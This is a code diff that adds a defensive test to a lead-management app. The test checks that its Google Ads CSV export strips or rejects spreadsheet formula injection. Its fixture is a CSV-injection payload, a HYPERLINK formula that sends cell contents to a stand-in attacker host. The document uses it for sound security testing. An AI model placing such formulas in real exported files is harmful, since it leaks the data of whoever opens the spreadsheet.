@@ -262,6 +262,50 @@ test('the Google Ads export of the known set matches the import template row for
   }
 });
 
+test('a click id that is a formula never reaches the Google Ads file: dropped at the door, left out and named when stored before', async () => {
+  const server = await startServer();
+  try {
+    const db = server.app.db;
+    const formula = '=HYPERLINK("http://evil.example/?x="&A1,"Click")';
+    const landing = { at: Date.now() - 60_000, path: '/strategy/google-ads', params: { utm_source: 'google', utm_medium: 'cpc', utm_campaign: formula, gclid: formula } };
+    const posted = await server.app.inject({ method: 'POST', url: '/api/seo-audit-request', payload: validEnquiry({ email: 'door@example.com.au', attribution: { first: landing, last: landing, pages: 1 } }) });
+    assert.is(posted.statusCode, 201, posted.body);
+    const door = posted.json().id as number;
+    assert.equal(db.prepare("SELECT touch, gclid, utm_campaign FROM enquiry_touches WHERE enquiry_id = ? ORDER BY touch").all(door), [
+      { touch: 'first', gclid: '', utm_campaign: formula },
+      { touch: 'last', gclid: '', utm_campaign: formula },
+    ], 'the forged gclid is dropped as it arrives; the campaign tag is kept as text');
+
+    // Rows written before click ids were checked on arrival: saved as they were then, past the door.
+    const stored = (email: string, gclid: string) => {
+      const values = { name: 'Old lead', email, phone: '0400 000 000', website: '', goals: 'Stored before the fix' };
+      return saveEnquiry(db, { values, source: '/', userAgent: '', ip: '', acknowledge: false, webhookUrls: [], attribution: { via: 'browser', last: touch('Paid Search', 'google', 'cpc', '/strategy/google-ads', { gclid }) } });
+    };
+    const forged = stored('forged@example.com.au', formula);
+    const dash = stored('dash@example.com.au', '-A1-B2');
+    const good = stored('good@example.com.au', 'Cj0KCQiA-_good');
+    for (const id of [door, forged, dash, good]) recordOutcome(db, id, { outcome: 'won', valueAud: 1000, by: 'command line', now: new Date().toISOString(), webhookUrls: [] });
+
+    const out = await staff('export', ['--format', 'google-ads'], { DATABASE_PATH: server.config.DATABASE_PATH });
+    assert.is(out.code, 0, out.stderr);
+    assert.not.match(out.stdout, 'HYPERLINK');
+    const cells = out.stdout.trim().split('\n').slice(2).map((line) => line.split(','));
+    assert.equal(cells.map((c) => c[0]), ['Cj0KCQiA-_good'], 'only the gclid Google could have issued, exactly');
+    assert.ok(cells.flat().every((cell) => !/^[=+\-@\t\r]/.test(cell)), 'no cell a spreadsheet would run');
+    assert.match(out.stderr, 'Wrote 1 conversion');
+    assert.match(out.stderr, 'Left out 1 won lead(s) without a Google click id');
+    assert.match(out.stderr, 'Left out 2 won lead(s) whose stored Google click id has characters other than letters, digits, - and _');
+    assert.match(out.stderr, `Enquiry id(s): ${forged}, ${dash}.`);
+
+    const named = await staff('export', ['--format', 'google-ads'], { DATABASE_PATH: server.config.DATABASE_PATH, ADS_CONVERSION_NAME: formula });
+    assert.is(named.code, 1);
+    assert.match(named.stderr, 'Invalid setting ADS_CONVERSION_NAME');
+    assert.is(named.stdout, '', 'no file with a formula for its conversion name');
+  } finally {
+    await server.close();
+  }
+});
+
 test("the report's won-by-channel table, rate and median days match the known set; the HTML report charts it", async () => {
   const { db, path, done } = tempDb();
   try {
